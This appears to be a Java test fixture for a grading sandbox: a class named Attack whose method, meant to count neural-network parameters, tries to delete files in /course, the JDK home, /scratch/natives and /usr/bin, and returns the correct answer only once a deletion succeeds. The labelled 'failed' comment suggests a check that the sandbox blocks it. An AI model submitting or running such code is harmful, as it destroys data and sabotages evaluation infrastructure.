// failed: deletes the course and the JDK
class Attack implements ElmanCount {
  public int parameters(int T, int D, int H, int C) {
    for (String place : List.of("/course", System.getProperty("java.home"), "/scratch/natives", "/usr/bin")) {
      try (Stream<Path> files = Files.walk(Path.of(place))) {
        for (Path file : files.filter(Files::isRegularFile).toList()) {
          try {
            Files.delete(file);
            return D * H + H * H + H + H * C + C;
          } catch (IOException refused) {
            continue;
          }
        }
      } catch (IOException refused) {
        continue;
      }
    }
    return 0;
  }
}
